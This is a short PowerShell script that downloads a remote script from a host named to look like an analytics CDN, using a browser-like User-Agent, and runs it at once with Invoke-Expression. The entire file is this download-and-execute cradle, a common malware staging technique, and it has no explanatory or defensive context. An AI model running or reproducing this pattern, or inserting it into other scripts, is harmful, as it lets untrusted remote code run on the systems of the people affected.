$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
$code = $wc.DownloadString('https://cdn.example-metrics.net/a.ps1')

if ($code.Length -gt 0) {
    IEX $code
}
